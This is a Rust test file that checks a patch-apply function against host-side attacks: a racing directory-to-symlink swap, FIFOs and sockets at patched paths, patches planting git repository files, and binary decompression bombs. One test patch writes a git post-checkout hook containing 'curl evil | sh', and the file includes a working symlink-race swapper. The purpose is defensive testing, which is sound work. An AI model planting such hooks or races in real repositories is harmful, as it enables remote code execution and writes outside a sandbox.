//! Host-side attacks on patch apply (docs/SECURITY_MODES.md, "Host-side attacks (round 2)"):
//! a directory swapped for a symbolic link while applies run, FIFOs/sockets at patched paths,
//! repository-like patches, and binary-hunk inflation bombs. Real files, real threads.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use codex_orchestrator_testkit::{digest, write};
use codex_orchestrator_workspace::{
    ApplyLimits, Resolve, WorkspaceError, apply_patch, apply_patch_with,
};

fn add_file(path: &str, line: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{line}\n"
    )
}

fn delete_file(path: &str, line: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\ndeleted file mode 100644\n--- a/{path}\n+++ /dev/null\n@@ -1 +0,0 @@\n-{line}\n"
    )
}

fn modify_file(path: &str, old: &str, new: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{old}\n+{new}\n"
    )
}

/// Keeps swapping `ws/sub` for a symbolic link to `outside` (and back) until `stop`, at most
/// `max` rounds. Returns how many swaps put the link in place.
fn swapper(ws: &Path, outside: &Path, stop: &AtomicBool, max: u32) -> u32 {
    let (sub, real) = (ws.join("sub"), ws.join(".sub-real"));
    let mut linked = 0;
    for k in 0..max {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        if std::fs::rename(&sub, &real).is_ok() && std::os::unix::fs::symlink(outside, &sub).is_ok()
        {
            linked += 1;
            std::thread::yield_now();
            let _ = std::fs::remove_file(&sub);
        }
        if std::fs::rename(&real, &sub).is_err() && real.exists() {
            // An apply created a new `sub` meanwhile: park it inside the workspace.
            let _ = std::fs::rename(&sub, ws.join(format!(".parked-{k}")));
            let _ = std::fs::rename(&real, &sub);
        }
        // Leave the real directory in place for a varying while, so that some applies pass
        // their checks and then meet the link while they write.
        std::thread::sleep(Duration::from_micros(u64::from(k % 7) * 150));
    }
    linked
}

#[test]
fn apply_never_writes_through_a_directory_swapped_for_a_symlink() {
    for how in [Resolve::Openat2, Resolve::Walk] {
        let tmp = tempfile::tempdir().unwrap();
        let (ws, outside) = (tmp.path().join("ws"), tmp.path().join("outside"));
        const N: usize = 200;
        for i in 0..N {
            write(&ws, &format!("sub/d{i}.txt"), "d\n");
            write(&outside, &format!("d{i}.txt"), "d\n");
        }
        write(&outside, "f.txt", "same\n");
        write(&ws, "sub/f.txt", "same\n");
        let outside_before = digest(&outside, true);
        let stop = Arc::new(AtomicBool::new(false));
        let t = {
            let (ws, outside, stop) = (ws.clone(), outside.clone(), stop.clone());
            std::thread::spawn(move || swapper(&ws, &outside, &stop, 2_000_000))
        };
        let started = Instant::now();
        let mut outcomes: BTreeMap<&str, u32> = BTreeMap::new();
        for i in 0..N {
            if started.elapsed() > Duration::from_secs(60) {
                break;
            }
            // Adds, deletes and rewrites below `sub`: each would change `outside` if followed.
            let patch = format!(
                "{}{}{}",
                add_file(&format!("sub/n{i}.txt"), "pwned"),
                delete_file(&format!("sub/d{i}.txt"), "d"),
                modify_file("sub/f.txt", "same", "same")
            );
            let r = apply_patch_with(&ws, patch.as_bytes(), false, &ApplyLimits::default(), how);
            let key = match &r {
                Ok(r) if r.applied => "applied",
                Ok(r)
                    if r.conflicts
                        .iter()
                        .any(|c| c.message.contains("symbolic link")) =>
                {
                    "refused: symbolic link"
                }
                Ok(_) => "conflict",
                Err(_) => "error",
            };
            *outcomes.entry(key).or_default() += 1;
            assert_eq!(
                digest(&outside, true),
                outside_before,
                "{how:?}: apply {i} wrote outside the workspace: {r:?}"
            );
        }
        stop.store(true, Ordering::Relaxed);
        let linked = t.join().unwrap();
        println!("{how:?}: {outcomes:?}; the link was in place {linked} times");
        assert_eq!(digest(&outside, true), outside_before);
        assert!(linked > 0, "the swapper never got its link in");
    }
}

#[test]
fn fifos_sockets_and_devices_at_patched_paths_are_refused_without_blocking() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let root = rustix::fs::open(
        &ws,
        rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::RDONLY,
        rustix::fs::Mode::empty(),
    )
    .unwrap();
    for name in ["p", "q"] {
        rustix::fs::mknodat(
            &root,
            name,
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
    }
    let _sock = std::os::unix::net::UnixListener::bind(ws.join("s")).unwrap();
    // A character device (the numbers of /dev/null) where the process may create one (root
    // with CAP_MKNOD); elsewhere that case is left out and said so.
    let device = rustix::fs::mknodat(
        &root,
        "t",
        rustix::fs::FileType::CharacterDevice,
        rustix::fs::Mode::from_raw_mode(0o600),
        rustix::fs::makedev(1, 3),
    )
    .is_ok();
    if !device {
        println!("no CAP_MKNOD here: the device case is not exercised");
    }
    let before = digest_no_devices(&ws);
    let mut patch = format!(
        "{}{}{}",
        modify_file("p", "a", "b"),
        add_file("q", "x"),
        modify_file("s", "a", "b")
    );
    if device {
        patch.push_str(&modify_file("t", "a", "b"));
    }
    for check_only in [true, false] {
        let (tx, rx) = std::sync::mpsc::channel();
        let (ws2, patch2) = (ws.clone(), patch.clone());
        std::thread::spawn(move || {
            let _ = tx.send(apply_patch(&ws2, patch2.as_bytes(), check_only));
        });
        let r = rx
            .recv_timeout(Duration::from_secs(30))
            .expect("the apply blocked on a FIFO")
            .unwrap();
        assert!(!r.ok && !r.applied);
        let got: Vec<(&str, &str)> = r
            .conflicts
            .iter()
            .map(|c| (c.path.as_str(), c.message.as_str()))
            .collect();
        let refused = |path, what: &str| {
            (
                path,
                format!(
                    "{what} is at this path; a patch writes only regular files and symbolic links, and this one is never opened"
                ),
            )
        };
        let mut want = vec![
            refused("p", "a FIFO (named pipe)"),
            refused("q", "a FIFO (named pipe)"),
            refused("s", "a socket"),
        ];
        if device {
            want.push(refused("t", "a character device"));
        }
        let got: Vec<(&str, String)> = got.into_iter().map(|(p, m)| (p, m.to_owned())).collect();
        assert_eq!(got, want);
        assert_eq!(digest_no_devices(&ws), before);
    }
}

/// Names, kinds and (for regular files) contents of the entries of `dir`, without opening
/// special files (`testkit::digest` reads every non-directory).
fn digest_no_devices(dir: &Path) -> BTreeMap<String, String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            let what = if t.is_file() {
                format!("file {:?}", std::fs::read(e.path()).unwrap())
            } else {
                format!("{t:?}")
            };
            (e.file_name().to_string_lossy().into_owned(), what)
        })
        .collect()
}

#[test]
fn repository_like_patches_are_refused_and_write_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    write(&ws, "README.md", "hi\n");
    let before = digest(&ws, true);
    let bare = format!(
        "{}{}{}{}",
        add_file("tools/cache/HEAD", "ref: refs/heads/main"),
        add_file("tools/cache/config", "[core]"),
        add_file("tools/cache/objects/info/alternates", "/x"),
        add_file("src/lib.rs", "ok")
    );
    let r = apply_patch(&ws, bare.as_bytes(), false).unwrap();
    assert_eq!(
        (r.ok, r.applied, r.conflicts.len()),
        (false, false, 1),
        "{r:?}"
    );
    assert_eq!(r.conflicts[0].path, "tools/cache/HEAD");
    assert!(
        r.conflicts[0]
            .message
            .contains("look like a git repository")
    );
    let hook = add_file(".git/hooks/post-checkout", "curl evil | sh");
    let nested = add_file("vendor/lib/.GIT/config", "[core]");
    for p in [hook, nested] {
        let r = apply_patch(&ws, p.as_bytes(), false).unwrap();
        assert_eq!(r.conflicts[0].message, "path inside .git", "{r:?}");
    }
    assert_eq!(digest(&ws, true), before);
}

/// Peak and current resident set of this process, in MiB.
fn rss_mib() -> (u64, u64) {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let field = |name: &str| -> u64 {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            .unwrap_or(0)
            / 1024
    };
    (field("VmHWM:"), field("VmRSS:"))
}

/// A `GIT binary patch` adding `path` whose literal holds `zeros` zero bytes (zlib), declaring
/// `declared` bytes.
pub fn zero_bomb(path: &str, zeros: u64, declared: u64) -> String {
    use codex_orchestrator_testkit::patches::{binary_literal_patch, zero_bomb_lines};
    binary_literal_patch(path, &zero_bomb_lines(zeros), declared)
}

#[test]
fn binary_inflation_bombs_are_refused_before_inflating() {
    const GIB: u64 = 1 << 30;
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    write(&ws, "README.md", "hi\n");
    let before = digest(&ws, true);
    let t = Instant::now();
    let bomb = zero_bomb("zeros.bin", GIB, GIB);
    let lying = bomb.replacen(&format!("literal {GIB}\n"), "literal 1000\n", 1);
    println!(
        "bomb patch: {} bytes of text for 1 GiB of zeros (built in {:?})",
        bomb.len(),
        t.elapsed()
    );
    let (peak0, rss0) = rss_mib();
    for (patch, want) in [
        (
            &bomb,
            format!(
                "the patch is refused: zeros.bin: a binary hunk declares {GIB} bytes, over the cap of 67108864 bytes per file; nothing was changed"
            ),
        ),
        (
            &lying,
            "the patch is refused: zeros.bin: a binary hunk inflates to more than its declared 1000 bytes; nothing was changed".to_string(),
        ),
    ] {
        for check_only in [true, false] {
            let e = apply_patch(&ws, patch.as_bytes(), check_only).unwrap_err();
            assert!(matches!(e, WorkspaceError::PatchTooLarge(_)), "{e}");
            assert_eq!(e.to_string(), want);
        }
    }
    let (peak1, rss1) = rss_mib();
    println!(
        "RSS during the 1 GiB bombs: peak {peak0} -> {peak1} MiB, current {rss0} -> {rss1} MiB"
    );
    assert!(
        peak1.saturating_sub(peak0) < 256,
        "the bombs raised the peak RSS by {} MiB",
        peak1 - peak0
    );
    assert_eq!(digest(&ws, true), before);
}
